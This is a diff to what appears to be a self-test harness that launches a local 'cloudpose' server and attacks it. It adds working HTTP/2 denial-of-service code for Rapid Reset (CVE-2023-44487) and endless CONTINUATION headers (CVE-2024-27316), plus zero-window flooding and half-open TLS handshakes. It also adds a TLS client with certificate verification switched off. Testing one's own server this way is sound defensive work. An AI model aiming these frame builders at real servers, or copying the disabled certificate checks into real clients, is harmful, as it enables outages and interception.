@@ -11,6 +11,7 @@ import os
 import re
 import resource
 import socket
+import ssl
 import struct
 import subprocess
 import sys
@@ -33,8 +34,8 @@ class Server:
         command = [binary, "serve", "--device", "cpu", "--listen", "127.0.0.1:0", *options]
         self.process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
         for line in self.process.stderr:
-            if found := re.search(r"listening on http://([\d.]+):(\d+)", line):
-                self.address = found[1], int(found[2])
+            if found := re.search(r"listening on (https?)://([\d.]+):(\d+)", line):
+                self.secure, self.address = found[1] == "https", (found[2], int(found[3]))
                 break
         else:
             sys.exit(f"{binary} does not start")
@@ -68,13 +69,19 @@ class Server:
         self.process.wait(60)
         return time.monotonic() - begun
 
-    def connect(self, buffer=None):
+    def connect(self, buffer=None, protocol="http/1.1"):
         client = socket.socket()
         if buffer:
             client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
         client.settimeout(30)
         client.connect(self.address)
-        return client
+        if not self.secure:
+            return client
+        # Whose certificate it is matters to nobody here.
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+        context.set_alpn_protocols([protocol])
+        return context.wrap_socket(client)
 
     def ask(self, body=None, kind="image/jpeg", path="/v1/pose?model=lightning", accept="application/json"):
         """The status and the body of an answer, or why there is none."""
@@ -160,7 +167,7 @@ def open_still(clients):
         try:
             while client.recv(1 << 16):
                 pass
-        except BlockingIOError:
+        except (BlockingIOError, ssl.SSLWantReadError):
             count += 1
         except OSError:
             pass
@@ -358,6 +365,96 @@ def traces(start, scale):
     return server, f"{sum(exported)} bytes of spans exported for 10 photos at a share of 0", costs
 
 
+def over_tls(start):
+    """A server that speaks TLS, with a certificate of its own."""
+    with tempfile.TemporaryDirectory() as folder:
+        command = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=localhost"
+        made = [*command.split(), "-keyout", f"{folder}/key.pem", "-out", f"{folder}/cert.pem"]
+        subprocess.run(made, check=True, capture_output=True)
+        return start("--tls-cert", f"{folder}/cert.pem", "--tls-key", f"{folder}/key.pem")
+
+
+def half_handshakes(start, scale):
+    server = over_tls(start)
+    clients = [socket.create_connection(server.address) for _ in range(scale(300, 50))]
+    for client in clients[::2]:
+        # The head of a ClientHello of 512 bytes.
+        client.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
+    time.sleep(13)
+    left = open_still(clients)
+    return server, f"{left} of {len(clients)} still there after 13 s"
+
+
+def tls_pings(start, scale):
+    return deaf_pings(lambda *options: over_tls(lambda *tls: start(*options, *tls)), scale)
+
+
+# RFC 9113, section 6: the types of frames, and some flags.
+HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 8, 9
+END_STREAM, END_HEADERS = 1, 4
+# GET / by https, from HPACK's static table (RFC 7541, appendix A), of authority x.
+GET = b"\x82\x87\x84\x41\x01x"
+
+
+def h2_frame(kind, flags=0, stream=0, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def http2(server):
+    client = server.connect(protocol="h2")
+    client.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(SETTINGS))
+    return client
+
+
+def h2_resets(start, scale):
+    """Rapid reset, CVE-2023-44487."""
+    server = over_tls(start)
+    client, sent = http2(server), 0
+    client.settimeout(10)
+    try:
+        for stream in range(1, 2 * scale(100_000, 20_000), 2):
+            client.sendall(
+                h2_frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + h2_frame(RST_STREAM, 0, stream, bytes(4))
+            )
+            sent += 1
+    except OSError:
+        return server, f"cut off after {sent} requests or less that were given up"
+    return server, f"all {sent} requests taken that were given up"
+
+
+def h2_headers(start, scale):
+    """Headers that never end, CVE-2024-27316 and others."""
+    server = over_tls(start)
+    client, sent = http2(server), 0
+    client.settimeout(10)
+    try:
+        client.sendall(h2_frame(HEADERS, END_STREAM, 1, GET))
+        while sent < scale(256, 64) * MIB:
+            # Names and values of 1000 bytes that no table keeps.
+            field = b"\x00\x7f\xe9\x06" + b"n" * 1000 + b"\x7f\xe9\x06" + b"v" * 1000
+            client.sendall(h2_frame(CONTINUATION, 0, 1, field * 8))
+            sent += len(field) * 8
+    except OSError:
+        return server, f"cut off after {sent / 1e6:.1f} MB of headers or less"
+    return server, f"{sent / 1e6:.0f} MB of headers taken"
+
+
+def h2_deaf(start, scale):
+    """Many answers at once, for whose bytes there is no window."""
+    server = over_tls(start)
+    begun, clients = time.monotonic(), []
+    for _ in range(scale(50, 10)):
+        client = http2(server)
+        # A window of nothing: SETTINGS_INITIAL_WINDOW_SIZE is 4.
+        client.sendall(h2_frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+        for stream in range(1, 200, 2):
+            client.sendall(h2_frame(HEADERS, END_HEADERS | END_STREAM, stream, GET))
+        clients.append(client)
+    time.sleep(scale(15, 8))
+    left = open_still(clients)
+    return server, f"{left} of {len(clients)} still there after {time.monotonic() - begun:.0f} s"
+
+
 def detect(binary):
     """What `cloudpose detect` does with names: not an attack on a server."""
     with tempfile.TemporaryDirectory() as folder:
@@ -400,6 +497,11 @@ ATTACKS = [
     ("more connections than files", no_files_left),
     ("SIGTERM beside silence and half heads", terminated),
     ("`traceparent` with the sampled flag", traces),
+    ("TLS: silence and half handshakes", half_handshakes),
+    ("TLS: pings, pongs never read", tls_pings),
+    ("HTTP/2: requests that are given up at once", h2_resets),
+    ("HTTP/2: headers that never end", h2_headers),
+    ("HTTP/2: 100 requests of each connection, no window for answers", h2_deaf),
 ]
 
 
